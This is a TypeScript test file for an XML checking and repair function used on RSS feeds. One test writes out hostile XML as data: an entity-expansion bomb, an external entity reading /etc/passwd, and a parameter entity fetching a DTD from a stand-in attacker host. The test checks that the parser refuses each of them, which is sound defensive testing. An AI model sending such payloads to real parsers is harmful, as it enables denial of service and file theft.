import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { SourceError } from './source-error.ts';
import { checkXml } from './xml.ts';

function refused(code: string, message: RegExp) {
  return (error: unknown): true => {
    assert.ok(error instanceof SourceError, String(error));
    assert.equal(error.code, code);
    assert.match(error.message, message);
    return true;
  };
}

test('well-formed XML is not repaired', () => {
  const xml = checkXml('<?xml version="1.0"?><a x="1 &amp; 2"><b>t &lt; u</b><![CDATA[<c>]]><!-- d --></a>', 'feed');
  assert.equal(xml.text, '<a x="1 &amp; 2"><b>t &lt; u</b><![CDATA[<c>]]></a>');
  assert.equal(xml.repaired, null);
  assert.equal(xml.root, 'a');
});

test('nearly XML is repaired, and what was wrong is told', () => {
  for (const [given, text] of [
    ['<rss><t>Fish & chips</t></rss>', '<rss><t>Fish &amp; chips</t></rss>'],
    ['<rss><t>a&nbsp;b</t></rss>', '<rss><t>a&amp;nbsp;b</t></rss>'],
    ['<rss><t>a<b>c</t></rss>', '<rss><t>a<b>c</b></t></rss>'],
    ['<rss><t>a</b></t></rss>', '<rss><t>a</t></rss>'],
    ['<rss><t>a</t></rss>\ntrailing <b>x<c/></b>', '<rss><t>a</t></rss>'],
    ['<rss><t a="b&c">x</t></rss>', '<rss><t a="b&amp;c">x</t></rss>'],
    ['<rss><![CDATA[a & b]]>&<!-- & --></rss>', '<rss><![CDATA[a & b]]>&amp;</rss>'],
  ] as const) {
    const xml = checkXml(given, 'feed');
    assert.ok(xml.repaired !== null, given);
    assert.equal(checkXml(xml.text, 'feed').repaired, null, xml.text);
    assert.equal(xml.text, text);
  }
});

test('control characters are dropped without a word: nobody can see them', () => {
  assert.deepEqual(checkXml('<a>x\u0000\u0008\u001fy</a>', 'feed').text, '<a>xy</a>');
});

test('an item the text breaks off in is left out', () => {
  const whole = '<rss><channel><item><title>one</title></item><item><title>two</title></item></channel></rss>';
  const end = whole.indexOf('two') + 2;
  const xml = checkXml(whole.slice(0, end), 'feed');
  assert.equal(xml.cutOff, true);
  assert.equal(xml.text, '<rss><channel><item><title>one</title></item></channel></rss>');
  assert.match(xml.repaired ?? '', /breaks off/);
});

test('wherever a feed breaks off, no half item is left', () => {
  const item = (name: string): string => `<item><title>${name}</title><d><![CDATA[<p>${name}</p>]]></d></item>`;
  const whole = `<rss><channel>${item('first')}${item('second')}${item('third')}</channel></rss>`;
  for (let end = 1; end < whole.length; end += 1) {
    const { text } = checkXml(whole.slice(0, end), 'feed');
    for (const part of text.split('<item>').slice(1))
      assert.match(part, /^<title>(\w+)<\/title><d>.*<p>\1<\/p>.*<\/d><\/item>/);
  }
});

test('entity bombs and external entities are refused before anything is expanded', () => {
  const bomb = `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">${Array.from(
    { length: 9 },
    (_, at) => `<!ENTITY lol${at + 1} "${`&lol${at === 0 ? '' : at};`.repeat(10)}">`,
  ).join('')}]><rss><channel><title>&lol9;</title></channel></rss>`;
  assert.throws(
    () => checkXml(bomb, 'https://courier.example/feed'),
    refused('declares-entities', /courier\.example\/feed/),
  );
  const external = '<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss>&x;</rss>';
  assert.throws(() => checkXml(external, 'feed'), refused('declares-entities', /feed/));
  const parameter = '<!DOCTYPE rss [ <!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]><rss/>';
  assert.throws(() => checkXml(parameter, 'feed'), refused('declares-entities', /feed/));
});

test('the document type of RSS 0.91 is harmless, is not fetched and is dropped', () => {
  const xml = checkXml(
    '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.example/rss.dtd"><rss/>',
    'feed',
  );
  assert.equal(xml.text, '<rss></rss>');
});

test('a document type inside an article is text', () => {
  assert.equal(checkXml('<rss><d><![CDATA[<!DOCTYPE x [<!ENTITY a "b">]>]]></d></rss>', 'feed').repaired, null);
});

test('XML nested without end is refused', () => {
  assert.throws(() => checkXml('<a>'.repeat(10_000), 'feed'), refused('too-deep', /feed/));
});

test('tombstones are found wherever they stand', () => {
  const xml = checkXml(
    `<rss xmlns:at="http://purl.org/atompub/tombstones/1.0"><channel>
     <at:deleted-entry ref=" tag:a,1 " when="2026-11-22T10:15:00Z"><at:by><at:name>x</at:name></at:by>
     <at:comment>It was <![CDATA[wrong]]></at:comment></at:deleted-entry><at:deleted-entry ref="tag:a,2"/></channel></rss>`,
    'feed',
  );
  assert.deepEqual(xml.tombstones, [
    { ref: 'tag:a,1', when: '2026-11-22T10:15:00Z', comment: 'It was wrong' },
    { ref: 'tag:a,2' },
  ]);
});

test('any text is read or refused, and what is read is well-formed', () => {
  const piece = fc.oneof(
    fc.string(),
    fc.constantFrom(
      '<',
      '>',
      '&',
      '</',
      '<item>',
      '</item>',
      '<a b="',
      '"',
      '<![CDATA[',
      ']]>',
      '<!--',
      '-->',
      '<?x ',
      '?>',
      '<!DOCTYPE ',
      '&#0;',
      '&#xD800;',
      '&lt;',
    ),
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 20 }), (pieces) => {
      try {
        const { text } = checkXml(`<rss>${pieces.join('')}`, 'feed');
        assert.equal(checkXml(text, 'feed').repaired, null, JSON.stringify(text));
      } catch (error) {
        assert.ok(error instanceof SourceError, String(error));
      }
    }),
    { numRuns: 500 },
  );
});
